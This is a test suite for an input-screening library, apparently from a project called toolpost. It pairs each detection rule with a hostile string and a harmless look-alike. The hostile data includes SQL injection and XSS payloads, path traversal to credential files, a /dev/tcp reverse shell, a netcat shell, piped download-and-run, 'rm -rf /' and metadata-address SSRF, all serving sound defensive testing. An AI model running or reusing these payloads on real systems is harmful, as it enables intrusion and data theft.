"""What screening refuses and what it lets pass: a hostile text and an innocent twin for every rule."""

from __future__ import annotations

import dataclasses
import re
import time
from collections import deque
from collections.abc import Callable
from enum import Enum
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st
from pydantic import BaseModel, SecretStr

from toolpost.calls.errors import ConfigurationError
from toolpost.security import rules
from toolpost.security.finders import PATTERNS
from toolpost.security.rules import Finding, Level, Role, Screen, normalised, role_of, screen_text

DOCS = Path(__file__).resolve().parents[2] / "docs" / "screening.md"

# Rule, how it is judged (role, level, ! for untrusted), a text it refuses, a text much like it that passes.
CASES = [
    ("sql.breakout-statement", "text medium", "Robert'); DROP TABLE students;--", "Robert's); drop the tables off;--"),
    ("sql.breakout-tautology", "text medium", "admin' or '7'='7", "admin's or 7 = seven"),
    ("sql.breakout-union", "text medium", "-4 UNION ALL SELECT login, pass", "4 union members select a delegate"),
    ("script.breakout", "text medium", '"><svg onload=go()>', '"> is a quoted reply'),
    ("path.traversal-value", "text medium", "../../../etc/shadow", "../../../src/shadow"),
    ("command.breakout", "text medium", "10.0.0.1; cat /etc/passwd", "10.0.0.1; category photos"),
    ("control.nul", "text medium", "report\0.txt", "report.txt"),
    ("sql.union-select", "text medium!", "x) union select a, b from t", "the union selects a chair from its members"),
    ("sql.breakout-condition", "text medium!", "it' and 3<4", "the boys' and girls' < 4 teams"),
    ("sql.breakout-expression", "text medium!", "bob' or email like 'a%", "bob's or alice's email, like before"),
    ("sql.appended-condition", "text medium!", "12 and substring(pass,1,1)=5", "12 and a half (or so)"),
    ("sql.tautology", "text medium!", "price or 8=8", "price or 8 == 8"),
    ("sql.stacked-statement", "text medium!", "blue; update users set admin=1", "blue; update users about the set"),
    ("sql.breakout-stacked", "text medium!", "x'); exec something", "x's); executive summary"),
    ("sql.declared-batch", "text medium!", "declare @a varchar(9) set @a = 0x41", "declare @a and varchar"),
    ("sql.breakout-comment", "text medium!", "admin'--", "the admin's -- and mine"),
    ("sql.injected-call", "text medium!", "blue or (sleep(5))", "x = sleep(5) or time.sleep(6)"),
    ("sql.probing-function", "text medium!", "1 waitfor delay '0:0:9'", "1 wait for a delay of '0:0:9'"),
    ("sql.system-object", "text medium!", "names from information_schema.tables", "names from the information_schema"),
    ("sql.column-probe", "text medium!", "7) order by 11 --", "order by 11 am"),
    ("sql.conditional-comment", "text medium!", "/*!50001 select*/", "/*! jquery v3 | (c) */"),
    ("sql.subquery", "text high!", "id in (select owner from pets)", "in (selected) pets from here"),
    ("sql.encoded-literal", "text high!", "x = char(97, 98)", "a char (97 bytes)"),
    ("sql.quoted-operator", "text medium!", "a' >= 'b", "a > b 'quoted'"),
    ("sql.bracketed-expression", "text medium!", "(binary (a)) --", "(binary (a)) -- as it was"),
    ("sql.probing-statement", "text medium!", "select @a, b from bar", "select a, b from bar"),
    ("sql.statement", "text strict", "please select one", "please choose one"),
    ("sql.punctuation", "text strict", "one; two", "one, two"),
    ("sql.several-statements", "sql medium", "SELECT 1; SELECT 2", "SELECT ';' ; "),
    ("sql.open-literal", "sql medium", "SELECT 'abc", "SELECT 'ab''c'"),
    ("sql.server-access", "sql medium", "SELECT pg_read_file('x')", "SELECT file_read FROM pg"),
    ("sql.credentials-table", "sql medium", "SELECT * FROM mysql.user", "SELECT * FROM app.user_list"),
    ("sql.split-keyword", "sql medium", "SELECT/**/pass FROM t", "SELECT /* pass */ a FROM t"),
    ("sql.catalog", "sql high", "SELECT * FROM information_schema.tables", "SELECT * FROM information"),
    ("sql.comment", "sql high", "SELECT 1 -- all", "SELECT 1 - 1"),
    (
        "sql.constant-condition",
        "sql high",
        "SELECT a FROM t WHERE a = 2 OR 5=5",
        "SELECT a FROM t WHERE a = 2 OR b = 5",
    ),
    ("sql.changes-data", "sql high", "DELETE FROM t WHERE a = 1", "SELECT deleted FROM t"),
    ("script.tag", "text medium!", "hi <SCRIPT src=//x.test/a.js>", "hi <Scripture 3:16>"),
    ("script.handler", "text medium!", "<img src=x onerror=go()>", "an <img src=x alt='one =1'>"),
    ("script.attribute-breakout", "text medium!", 'x" onmouseover="go()', 'turn it "on" load = 3'),
    ("script.bare-handler", "text medium!", "onfocus=go.now(1)", "once=alert"),
    ("script.uri", "text medium!", "[x](java\tscript:go())", "[x](https://x.test/javascript:go)"),
    ("script.uri-value", "text medium!", "javascript:go()", "JavaScript: The Good Parts (2008)"),
    ("script.active-element", "text medium!", "<object data=x.swf>", "<object at 0x7f01>"),
    ("script.frame", "text medium!", "<iframe src=//x.test>", "<iframe> is an element"),
    ("script.style", "text medium!", "<b style='width:expression(go())'>", "<b> a regular expression (see above)"),
    ("script.call-breakout", "text medium!", "x';alert(1)//", "x's; alert the guard"),
    ("script.decoded-call", "text medium!", "eval(atob('Z28oKQ=='))", "eval(expression)"),
    ("script.puzzle", "text medium!", "[][(![]+[])[+[]]]", "a[][b] and (![x])"),
    ("script.sent-cookie", "text medium!", "location=a+document.cookie", "document.cookie = 'theme=dark'"),
    ("script.call-value", "text medium", "alert.call(1)", "alert the caller (1)"),
    ("script.page-element", "text medium!", "x <style>b {}</style>", "x < style, they say"),
    ("script.encoded-bracket", "text medium", "&#x3c;", "&#x3c; is a bracket"),
    ("script.any-call", "text high!", "see prompt(5)", "prompt five people"),
    ("script.embedded", "html high", "<form action=/x>", "<p>a form</p>"),
    ("script.markup-value", "text medium!", '<p class="x">now</p>', "<user-name>"),
    ("script.any-tag", "text strict", "a <b", "a b"),
    ("markup.external-entity", "text medium!", '<!ENTITY x SYSTEM "file:///a">', "<!ENTITY x 'plain'>"),
    ("markup.server-include", "text medium!", '<!--#exec cmd="ls" -->', "<!-- # exec summary -->"),
    ("header.injection", "text medium!", "a%0d%0aSet-Cookie: s=1", "a%20set-cookie: s=1"),
    ("template.object-access", "text medium!", "{{ ''.__class__ }}", "{{ name }} has a __class__"),
    ("template.arithmetic", "text medium!", "{{7*7}}", "{{ total }} is 7*7"),
    ("template.directive", "template high", "{% include '/x' %}", "{% if a %}b{% endif %}"),
    ("command.chained", "text medium!", "host.test | nslookup x.test", "host.test | lookup"),
    ("command.broken-out", "text medium!", "a); /usr/bin/whoami", "a); /usr/bin was full"),
    ("command.command-value", "text medium!", "netsh firewall set opmode", "the firewall is netsh"),
    ("command.code-value", "text medium!", "system('pwd');", "the system ('pwd') is old"),
    ("command.php-code", "text medium!", "see <?php eval($x); ?>", "see <?php $title ?>"),
    ("command.sensitive-read", "shell medium", "head -1 /etc/shadow", "head -1 /etc/hostname"),
    (
        "command.reverse-shell",
        "shell medium",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "bash -i setup.sh > /dev/null",
    ),
    ("command.netcat-shell", "shell medium", "nc -nv 192.0.2.7 9 -e /bin/sh", "nc -zv example.test 22"),
    ("command.shellshock", "text medium!", "() { :;}; id", "() => {}; id"),
    ("command.evasion", "text medium!", "cat${IFS}notes", "cat ${FILE}"),
    ("command.piped-download", "shell medium", "wget -qO- x.test/i | sudo bash", "wget x.test/i -O i && less i"),
    ("command.decoded", "shell medium", "echo aWQK | base64 -d | sh", "base64 -d in.txt | sort"),
    ("command.destructive", "shell medium", "rm -rf / ", "rm -rf /tmp/build"),
    ("command.any-chaining", "shell high", "ls; id", "ls -la src"),
    ("command.metacharacter", "text strict", "this & that", "this and that"),
    ("path.deep-traversal", "text medium!", "../../notes/a.txt", "see ../../notes/a.txt for more"),
    ("path.system-file", "text medium!", "?page=../etc/motd", "?page=../docs/motd"),
    ("path.encoded-traversal", "text medium!", "x/%2e%2e%2fsecret", "x/%2e%2esecret"),
    ("path.odd-value", "text medium!", "a%c0%afb", "a%c0%afb is overlong"),
    ("path.system-value", "text medium!", "/var/log/cron", "/var/data/cron"),
    ("url.internal-value", "text medium!", "http://169.254.169.254/x", "http://169.254.169.254/x is one"),
    ("path.traversal", "path medium", "docs/../../x", "docs/..hidden/a..b/..."),
    ("path.odd-encoding", "path medium", "a%c0%afb", "a%20b"),
    ("path.control-character", "path medium", "a\x07.txt", "a 07.txt"),
    ("path.wrapper", "path medium", "php://filter/x", "php/filter/x"),
    ("path.sensitive-file", "path medium", "/home/me/.ssh/id_rsa", "/home/me/ssh/id_rsa.md"),
    ("path.server-file", "path medium", "/usr/lib/x.so", "/home/usr/lib/x.so"),
    ("path.forbidden-character", "path medium", "a|b", "a b (1) [2]"),
    ("path.stream-or-share", "path medium", "notes.txt::$DATA", "notes.txt: $data"),
    ("path.system-directory", "path high", "/root/motd", "/srv/root/motd"),
    ("path.device-name", "path high", "out/aux.h", "out/auxiliary.h"),
    ("path.settings-file", "path high", "app/.env", "app/.env-guide.md"),
    ("path.shell-character", "path high", "a$b", "a(b)"),
    ("url.script-scheme", "url medium", "javascript:go()", "https://x.test/?q=javascript:go()"),
    ("url.local-scheme", "url medium", "file:///etc/motd", "https://x.test/file:a"),
    ("url.control-character", "url medium", "https://x.test/a\tb", "https://x.test/a b\n"),
    ("url.backslash", "url medium", "https:\\\\x.test", "https://x.test/?a=%5Cb"),
    ("url.address", "url medium", "https://me:pw@x.test/", "https://x.test/@me"),
    ("url.internal-host", "url medium", "http://192.168.3.4/", "http://8.8.4.4/"),
    ("identifier.control-character", "identifier medium", "ab\ncd", "ab-cd"),
    ("identifier.format", "identifier medium", "ab cd", "ab-cd_1:2.3@x/y+z="),
    ("regex.nested-repeat", "regex medium", r"^(\w+)*$", r"^(\w+,)*\w+$"),
    ("regex.size", "regex high", "a{5000}", "a{50}"),
]


def judged(how: str) -> Callable[[str], Finding | None]:
    role, level = how.removesuffix("!").split()
    return Screen(role, level, untrusted=how.endswith("!")).check  # type: ignore[arg-type]


# What rules find besides, in forms of which each stands for many.
FORMS = [
    ("7 and ceil(x)>=floor(2)", "sql.appended-condition"),
    ("7 or (a)<>b #", "sql.appended-condition"),
    ("3=4 xor x", "sql.appended-condition"),
    ("12 (select a from b)", "sql.appended-condition"),
    ("ann' is not in (x) and y > z -- -", "sql.quoted-operator"),
    ("b' (select a from b) '1", "sql.quoted-operator"),
    ("q' * 'r' < '2", "sql.quoted-operator"),
    ("x, (case when (3=4) then 1 end)", "sql.tautology"),
    ("javascript:go", "script.uri-value"),
    ("%3e", "script.encoded-bracket"),
    ("\\u{3c}", "script.encoded-bracket"),
    ("[0].filter(alert)", "script.call-value"),
    ("</div>", "script.markup-value"),
]


@pytest.mark.parametrize(("text", "rule"), FORMS)
def test_a_form_of_an_attack_is_found_by_its_rule(text: str, rule: str) -> None:
    assert rule in {finding.rule for finding, _ in Screen("text", "medium", untrusted=True).explain(text)}


@pytest.mark.parametrize(("rule", "how", "hostile", "innocent"), CASES, ids=[case[0] for case in CASES])
def test_each_rule_refuses_its_attack_and_passes_the_innocent_twin(
    rule: str, how: str, hostile: str, innocent: str
) -> None:
    check = judged(how)

    finding, nothing = check(hostile), check(innocent)

    assert finding is not None
    assert (finding.rule, finding.kind) == (rule, rule.partition(".")[0])
    assert nothing is None


def test_every_rule_has_a_case_and_stands_in_the_documentation() -> None:
    ids = [pattern.rule for pattern in PATTERNS]
    table = dict(re.findall(r"^\| `(\w+)` \| (`.+`) \|$", DOCS.read_text(), re.MULTILINE))

    documented = {f"{kind}.{name}" for kind, names in table.items() for name in re.findall(r"`([\w-]+)`", names)}

    assert sorted(ids) == sorted(case[0] for case in CASES)
    assert documented == {*ids, "size.text", "size.depth", "size.items", "size.encoding"}


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.rule)
def test_a_reason_is_one_sentence_that_says_what_to_do(pattern: Any) -> None:
    assert pattern.why[0].islower() or pattern.why.startswith(("UNION", "'..'"))
    assert not pattern.why.endswith(".")
    assert len(pattern.why) < 110


THE_DOCUMENTS = [
    "SELECT * FROM users; DROP TABLE users;",
    "'; DROP TABLE users; --",
    "<script>alert('xss')</script>",
    "../../etc/passwd",
]

ORDINARY = [
    "Normal query",
    "please select one; then insert coins -- thanks",
    "O'Brien",
    "D'Angelo & Sons' \"best\" offer",
    "rock & roll; it's 5 o'clock",
    "DROP me a line; table for two",
    "union of select committee members",
    "Delete from the list what you don't need; update the rest, then drop the table of contents.",
    "She said 'yes' or 'no' -- I don't remember; either is fine.",
    "Use either 'left' or 'right'; 1 = on, 0 = off /* default */",
    "The cat's out; ping me at 5 (or sleep on it).",
    "R&D | marketing && sales",
    '{"name": "O\'Neil", "tags": ["a;b", "c--d"], "q": "x = \'y\' or z", "n": 1.5}',
    "# Title\n\n- `ls -la | sort` lists; see [the guide](../guide.md)\n\n| a | b |\n| --- | --- |\n| 1 | `x;y` |\n",
    "def f(x):\n    if x == 'a' or x == 'b':\n        time.sleep(5)  # wait; then go on\n    return {'k': x or 1}\n",
    '#include <stdio.h>\nint main(void) { if (a || b == 1) { sleep(1); system("ls"); } return 0; } /* end */\n',
    "const f = (a) => { if (a === 'x' || b === 'y') { window.title = 'z'; alert('done'); } };\n",
    "import x from '../../lib/x';\n<Button onClick={() => go()} />\n",
    'SQL += " AND name = \'" + name + "\'"  # never do this',
    "git log --oneline main..dev -- src/; make -j2 && ./run.sh > out.txt 2>&1",
    "100% of users; 5 > 3 and 2 < 4; see https://x.test/a?b=1&c=%20d#e",
    "Müller, 小红 and Ó Hannagáin met at 5\u2019clock \u201csharp\u201d",
]

ABOUT_ATTACKS = [
    "The classic payload is '; DROP TABLE users; -- which ends the statement and starts another.",
    "SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE u.name = 'x' OR 1=1; -- all",
    "SELECT a FROM t UNION ALL SELECT b FROM u; DROP TABLE IF EXISTS old;",
    "<!DOCTYPE html><html><head><script src='app.js'></script></head><body onload='go()'><p>Hi</p></body></html>",
    "Open ../../etc/passwd in the sandbox and see what happens.",
    "curl -sSL https://x.test/install.sh | sh; cat /etc/passwd",
    "SELECT 1",
    "select @@version, count(*) from t where a = '1' or 1 = 1",
    "Never evaluate {{7*7}} or ${jndi:ldap://x} from a form.",
]


@pytest.mark.parametrize("text", THE_DOCUMENTS)
def test_the_documents_malicious_inputs_are_refused_in_sanitized_text(text: str) -> None:
    assert screen_text(text, untrusted=True) is not None


@pytest.mark.parametrize("untrusted", [False, True])
@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_passes_sanitized_or_not(text: str, untrusted: bool) -> None:
    assert screen_text(text, untrusted=untrusted) is None


@pytest.mark.parametrize("text", ABOUT_ATTACKS)
def test_text_about_attacks_passes_where_text_goes_nowhere_dangerous(text: str) -> None:
    assert screen_text(text) is None


def test_an_attack_keeps_its_finding_in_disguise() -> None:
    disguises = {
        "%27%20or%20%271%27%3D%271": "sql.breakout-tautology",
        "%2527%2520or%25201%253D1--": "sql.breakout-tautology",
        "x'/**/or/**/2=3": "sql.breakout-tautology",
        "5#a\nunion#b\nselect--c\n1,2": "sql.breakout-union",
        "5+UNION+SELECT+1,2": "sql.breakout-union",
        "un\u200bion select 1,2 union select 3": "sql.union-select",
        "&lt;script&gt;go()&lt;/script&gt;": "script.tag",
        "\uff1cscript\uff1ego()": "script.tag",
        "\\u003cscript\\x3ego()": "script.tag",
        "<scr\0ipt>go()": "control.nul",
        "see <a href=jav&#x0A;ascript:go()>": "script.uri",
        "\uff07; desc users": "sql.breakout-stacked",
    }

    found = {text: screen_text(text, untrusted=True) for text in disguises}

    assert {text: finding and finding.rule for text, finding in found.items()} == disguises


@pytest.mark.parametrize(
    "path",
    ["/path/to/file.txt", "docs/read me.md", "..hidden", "a..b", "./...", "C:\\Users\\me\\a.txt", "50%.txt", "café/ñ"],
)
def test_plain_paths_pass_relative_or_absolute_at_every_usual_level(path: str) -> None:
    assert screen_text(path, role="path") is None
    assert screen_text(path, role="path", level="high") is None


@pytest.mark.parametrize(
    "path",
    [
        "..",
        "../x",
        "a/../b",
        "..\\x",
        "..%2fx",
        "..%252fx",
        "%2e%2e/x",
        "%c0%ae%c0%ae/x",
        "%e0%80%ae%e0%80%ae/x",
        "..%c0%afx",
        "..%u2215x",
        "%%32%%65%%32%%65/x",
        "\uff0e\uff0e/x",
        "....//x",
        "0x2e0x2e/x",
        "/srv/www/../../x",
        "x\0.png",
    ],
)
def test_traversal_is_refused_in_every_encoding(path: str) -> None:
    assert screen_text(path, role="path") is not None


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a/b?q=select+1;drop&x=%27#f",
        "../up/one",
        "mailto:me@example.com",
        "s3://bucket/key",
        "https://example.com/a..b/c?next=/d/../e",
        "https://xn--mnchen-3ya.test/straße",
    ],
)
def test_ordinary_addresses_pass(url: str) -> None:
    assert screen_text(url, role="url") is None


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT a.x, count(*) FROM a LEFT JOIN b ON a.id = b.id WHERE b.n LIKE 'O''B%' GROUP BY 1 ORDER BY 2 DESC;",
        "WITH r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r -- five; rows",
        "SELECT 'it\\'s; here' AS s /* a; b */",
        'SELECT $$it\'s$$, "c;d", `e;f`',
        "INSERT INTO t (a, b) VALUES (1, 'x;y')",
        "DROP TABLE t",
        "SELECT a FROM t WHERE a LIKE '%27%' AND b ~ '[\\x27]'",
    ],
)
def test_one_statement_passes_where_sql_is_wanted(sql: str) -> None:
    assert screen_text(sql, role="sql") is None


@pytest.mark.parametrize(
    "html",
    [
        "<h1 class='a'>Hi</h1><p>Tea &amp; <b>cake</b> on=yes <a href='https://example.com/?a=1'>link</a></p>",
        "<table><tr><td style='color:red'>1</td></tr></table><img src='a.png' alt='x > y'>",
        "<iframe src='https://video.test/embed/1'></iframe><svg><path d='M0,0'/></svg>",
        "<!DOCTYPE html><html lang=en><meta charset=utf-8><title>On load</title><link rel=stylesheet href=a.css>",
    ],
)
def test_ordinary_markup_passes_where_html_is_wanted(html: str) -> None:
    assert screen_text(html, role="html") is None


@pytest.mark.parametrize(
    "html",
    [
        "<p>x</p><script>go()</script>",
        "<img/onerror=go() src=x>",
        "<a href='vbscript:go()'>x</a>",
        "<iframe srcdoc='&lt;script&gt;'>",
        "<meta http-equiv=refresh content=0>",
        "<svg><animate attributeName=href values=x>",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    ],
)
def test_markup_that_runs_script_is_refused_where_html_is_wanted(html: str) -> None:
    assert screen_text(html, role="html") is not None


@pytest.mark.parametrize(
    "command",
    ["git commit -m 'a; b'", "ls -la | sort > out.txt", "find . -name '*.py' -exec wc -l {} +", "eval $(ssh-agent)"],
)
def test_ordinary_commands_pass_where_commands_are_wanted(command: str) -> None:
    assert screen_text(command, role="shell") is None


@pytest.mark.parametrize(
    "value",
    [
        *["42", "-100123", "a1b2-c3", "tenant:eu.west:7", "日本-1", "हिन्दी_2", "meta/llama-3.1"],
        *["@scope/package", "#123", "ISBN:0-306-40615-2", "eu-west-1", "a_b.c"],
        *["ann.lee+news@example.com", "+4915112345678", "arn:aws:iam::123456789012:user/Ann", "auth0|5f7c8ec7", "A__b"],
        *["1,2,3", "a, b", "VXNlcjo3MQ==", "018f3e2a-7c1b-7d4e-9a55-0242ac120002", "0xAbC0123456789"],
    ],
)
def test_an_innocent_identifier_of_any_form_passes(value: str) -> None:
    assert screen_text(value, role="identifier") is None


@pytest.mark.parametrize("text", [*THE_DOCUMENTS, *ABOUT_ATTACKS, "x" * 100_000])
def test_low_refuses_nothing_but_size(text: str) -> None:
    assert screen_text(text, level="low", untrusted=True) is None


def test_strict_judges_every_role_as_the_documents_regular_expression_does() -> None:
    words = ["please select one", "INSERT it", "a -- b", "a; b", "a /* b"]
    roles: list[Role] = ["text", "document", "identifier", "path", "url", "sql", "html", "shell", "regex", "template"]

    refused = [screen_text(text, role=role, level="strict") is not None for text in words for role in roles]

    assert all(refused)
    assert screen_text("Normal query", level="strict") is None


def test_skip_is_obeyed_at_every_level() -> None:
    levels: list[Level] = ["low", "medium", "high", "strict"]

    screens = [Screen("skip", level, untrusted=True, extra=[lambda value, role: "never"]) for level in levels]

    assert all(screen.empty for screen in screens)


def test_a_higher_level_refuses_all_that_a_lower_one_does() -> None:
    levels: list[Level] = ["low", "medium", "high", "strict"]
    texts = [case[2] for case in CASES] + [case[3] for case in CASES] + ORDINARY

    for text in texts:
        refused = [screen_text(text, level=level) is not None for level in levels]
        assert refused == sorted(refused), text


@pytest.mark.parametrize(
    ("name", "role"),
    [
        *[(name, "path") for name in ("path", "file", "filename", "filepath", "file_path", "dir", "directory")],
        *[(name, "path") for name in ("folder", "target_path", "outputDir", "file_name", "paths", "directories")],
        *[(name, "url") for name in ("url", "uri", "link", "href", "endpoint", "image_url", "callbackUrl", "urls")],
        *[(name, "path") for name in ("path2", "file_1", "cwd", "XMLFile", "srcDIR")],
        *[(name, "url") for name in ("HTTPLink", "url1", "imageURLs", "URL")],
        *[(name, "sql") for name in ("sql", "sql_query", "raw_sql", "sqlStatement")],
        *[(name, "html") for name in ("html", "body_html", "html_body")],
        *[(name, "shell") for name in ("cmd", "command", "shell", "script", "shell_command", "command_line")],
        *[(name, "identifier") for name in ("id", "user_id", "userId", "order_ids", "slug", "identifier", "uuid")],
        *[(name, "regex") for name in ("pattern", "regex", "url_pattern")],
        *[(name, "template") for name in ("template", "mail_template")],
        *[(name, "document") for name in ("content", "file_content", "body", "sourceCode", "patch")],
        *[(name, "text") for name in ("query", "q", "search", "text", "name", "idea", "profile", "")],
    ],
)
def test_a_name_tells_its_role(name: str, role: str) -> None:
    assert role_of(name) == role


def test_a_format_wins_over_the_name_and_a_declaration_over_both() -> None:
    by_format = role_of("query", format="uri-reference")
    unknown_format = role_of("file", format="email")
    declared = role_of("file", format="uri", declared="skip")

    assert (by_format, unknown_format, declared) == ("url", "path", "skip")


def test_a_role_or_level_that_does_not_exist_is_refused_with_the_nearest() -> None:
    with pytest.raises(ConfigurationError, match="'x': 'idenifier' is not a role; did you mean 'identifier'"):
        role_of("x", declared="idenifier")
    with pytest.raises(ConfigurationError, match="the levels are low, medium, high, strict"):
        Screen("text", "extreme")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="role 'words' does not exist; the roles are text"):
        Screen("words", "medium")  # type: ignore[arg-type]


@dataclasses.dataclass
class Order:
    note: str


class Word(str):
    __slots__ = ()

    def __str__(self) -> str:
        return "fine"


class Kind(Enum):
    HOSTILE = "x'; DROP TABLE t; --"
    LISTED = ("fine", "x'; DROP TABLE t; --")


class Letter(BaseModel, extra="allow"):
    body: str


@pytest.mark.parametrize(
    "value",
    [
        ["fine", ["fine", {"deep": "x'; DROP TABLE t; --"}]],
        {"x'; DROP TABLE t; --": 1},
        ("fine", {"x'; DROP TABLE t; --"}),
        Order(note="x'; DROP TABLE t; --"),
        [deque(["fine", "x'; DROP TABLE t; --"])],
        {"x'; DROP TABLE t; --": 1}.keys(),
        {1: "x'; DROP TABLE t; --"}.values(),
        Word("x'; DROP TABLE t; --"),
        Kind.HOSTILE,
        [Kind.LISTED],
        SecretStr("x'; DROP TABLE t; --"),
        Letter(body="x'; DROP TABLE t; --"),
        Letter.model_validate({"body": "fine", "more": ["x'; DROP TABLE t; --"]}),
    ],
)
def test_text_is_found_wherever_it_lies_in_a_value(value: Any) -> None:
    finding = Screen("text", "medium").check(value)

    assert finding is not None
    assert finding.rule == "sql.breakout-statement"


def test_a_path_object_is_judged_as_its_text() -> None:
    screen = Screen("path", "medium")

    assert screen.check(PurePosixPath("../x")) is not None
    assert screen.check(PurePosixPath("x/y")) is None


@pytest.mark.parametrize("value", [None, True, 7, 1.5, b"'; DROP TABLE t; --", [1, None, {"a": 2.5}], object(), Order])
def test_what_is_no_text_passes(value: Any) -> None:
    assert Screen("text", "strict").check(value) is None


def test_a_value_that_holds_itself_is_refused_for_its_depth() -> None:
    ring: list[Any] = []
    ring.append(ring)

    finding = Screen("text", "medium").check(ring)

    assert finding is not None
    assert finding.rule == "size.depth"


def test_sixty_four_levels_pass_and_one_more_does_not() -> None:
    nested: Any = "fine"
    for _ in range(64):
        nested = [nested]

    assert Screen("text", "medium").check(nested) is None
    assert Screen("text", "medium").check([nested]) is not None


def test_a_value_of_too_many_parts_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rules, "MAX_NODES", 100)

    few, finding = Screen("text", "medium").check([0] * 99), Screen("text", "medium").check([0] * 100)

    assert few is None
    assert finding is not None
    assert finding.rule == "size.items"


@pytest.mark.parametrize("value", ["x" * 11, ["x" * 6, "x" * 5], {"x" * 6: "x" * 5}])
def test_all_the_text_of_a_value_counts_towards_its_size(value: Any) -> None:
    finding = Screen("text", "low", max_chars=10).check(value)

    assert finding is not None
    assert (finding.rule, finding.kind) == ("size.text", "size")
    assert "10 characters" in finding.why
    assert Screen("text", "low", max_chars=11).check(value) is None


def test_a_screen_is_empty_when_it_could_refuse_nothing() -> None:
    assert Screen("text", "low").empty
    assert Screen("skip", "strict").empty
    assert not Screen("text", "medium").empty
    assert not Screen("text", "low", max_chars=5).empty
    assert not Screen("text", "low", extra=[lambda value, role: None]).empty


def test_a_plugins_rule_sees_value_and_role_and_names_the_finding() -> None:
    def no_shouting(value: str, role: str) -> str | None:
        return f"{role} must not shout" if value.isupper() else None

    screen = Screen("url", "low", extra=[no_shouting])

    finding = screen.check(["quiet", "LOUD"])

    assert finding == Finding(rule="plugin.no_shouting", role="url", kind="plugin", why="url must not shout")
    assert screen.check("quiet") is None


def test_a_plugins_rule_that_breaks_is_not_taken_for_a_pass() -> None:
    def broken(value: str, role: str) -> str | None:
        raise RuntimeError("out of order")

    with pytest.raises(RuntimeError, match="out of order"):
        Screen("text", "medium", extra=[broken]).check("anything")


def test_a_finding_never_repeats_the_value() -> None:
    for _, how, hostile, _ in CASES:
        finding = judged(how)(hostile)
        assert finding is not None
        assert hostile not in f"{finding}"


def test_views_decode_what_interpreters_decode_and_begin_with_the_value() -> None:
    decoded = {
        "%41": "A",
        "%2541": "A",
        "%u0041": "A",
        "%c1%81": "A",
        "%e0%81%81": "A",
        "&lt;&#65;&#x41;": "<AA",
        "\\x41\\u0041\\u{41}": "AAA",
        "\uff21": "A",
        "a\0b\u200bc": "abc",
        "%26lt%3B": "<",
        "\ud800": "?",
        "%ud800%41": "A",
    }

    views = {text: normalised(text) for text in decoded}

    assert {text: view[-1] for text, view in views.items()} == decoded
    assert all(view[0] == text for text, view in views.items())


@given(st.text(alphabet="%25u41c0afeE&lt;#x\\{}\ufdfaﬃ\uff21é\0\u200b ", max_size=200))
@settings(max_examples=300)
def test_views_are_bounded_in_number_and_size_and_never_fail(text: str) -> None:
    views = normalised(text)

    assert len(views) <= 7
    assert all(len(view) <= 4 * len(text) for view in views)


@given(st.text(max_size=300), st.sampled_from(["text", "path", "url", "sql", "html", "shell", "regex", "template"]))
@settings(max_examples=300)
def test_any_text_can_be_judged_in_any_role(text: str, role: Role) -> None:
    for level in ("medium", "high", "strict"):
        screen_text(text, role=role, level=level, untrusted=True)


HOSTILE = [
    *["'", '"', "`", "<", "(", "((", "[", "{", "{{", "\\", "/", "/*", "*/", "/**/", "-", "--", "#", ";", "; "],
    *["|", "&", "=", "%", " or", " or 1=", "1 or ", "' or ", "a'", "a' ", "a'a", "../", "..", "..\\", "%25", "%2e"],
    *["%c0", "%41", "&lt;", "&#", "\\u0041", "<a ", "<a on", "<svg/onload", "<!--#", "<!entity ", "javascript:"],
    *["data:", "style=:", "union select a, ", "select a, ", "drop table ", "; select ", "order by 1,", "or 'a"],
    *["concat(", "copy a from ", "exec xp_", "declare @a ", "sleep(1", "or (", "$a$", "$$", "a.", "a@", "nc -"],
    *["cat a", "curl |", "rm -", "rm -r ", "dd if", "base64 -d", "sh -i ", "$(", "() {", "__class__", "{{ __"],
    *["#{", "7*7", "(a+", "[a]+)", " ", "\n", "\t", "\0", "\u200b", "\ufdfa", "é", "a\u0301\u0316", "0x2e", "on"],
    *["con", "http://", "https://a", "a:", "!", "~"],
]


def cpu_s(run: Callable[[str], object], text: str) -> float:
    """Processor time, which other processes do not lengthen."""
    start = time.process_time()
    run(text)
    return time.process_time() - start


def grows_linearly(run: Callable[[str], object], unit: str, chars: int) -> bool:
    """Whether four times the text takes about four times the time, at best in twelve tries; sixteen is quadratic."""
    text = unit * (chars // len(unit))
    once_s = four_s = float("inf")
    for _ in range(12):
        once_s, four_s = min(once_s, cpu_s(run, text)), min(four_s, cpu_s(run, text * 4))
        if four_s < 10 * max(once_s, 0.001):
            return True
    return False


@pytest.mark.parametrize("pattern", PATTERNS, ids=lambda pattern: pattern.rule)
def test_no_rule_takes_more_than_linear_time_on_200_kb(pattern: Any) -> None:
    search = pattern.search()
    slow = []
    for unit in HOSTILE:
        # In quadratic time this takes over 0.1 s, and 200 kB then over 25 s; what is quick is not looked at again.
        if cpu_s(search, unit * (12_500 // len(unit))) > 0.02:
            slow.append(unit)

    assert [unit for unit in slow if not grows_linearly(search, unit, 50_000)] == []


@pytest.mark.parametrize("unit", ["'", "<", " or", "../", "%25", "*/ /*", "&amp;", "\\x5c", "\ufdfa", "a\u0301\u0316"])
def test_screening_200_kb_takes_time_in_proportion_and_so_takes_seconds(unit: str) -> None:
    assert grows_linearly(Screen("text", "high", untrusted=True).check, unit, 50_000)
    assert grows_linearly(Screen("sql", "high").check, unit, 50_000)


def test_padding_does_not_hide_an_attack() -> None:
    padding = "lorem ipsum " * 20_000

    finding = screen_text(padding + "; drop table users; " + padding, untrusted=True)

    assert finding is not None
    assert finding.rule == "sql.stacked-statement"
